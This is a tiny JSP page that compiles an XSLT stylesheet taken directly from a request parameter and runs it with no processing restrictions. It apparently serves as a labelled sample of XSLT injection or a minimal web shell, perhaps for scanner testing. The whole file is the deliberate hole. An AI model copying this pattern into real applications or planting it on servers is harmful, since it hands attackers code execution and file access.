<%@ page inert %>
<%@ page import="javax.xml.transform.*,javax.xml.transform.stream.*,java.io.*" %>
<%
Source x = new StreamSource(new StringReader(request.getParameter("xsl")));
TransformerFactory.newInstance().newTransformer(x).transform(new StreamSource(new StringReader("<r/>")), new StreamResult(out));
%>
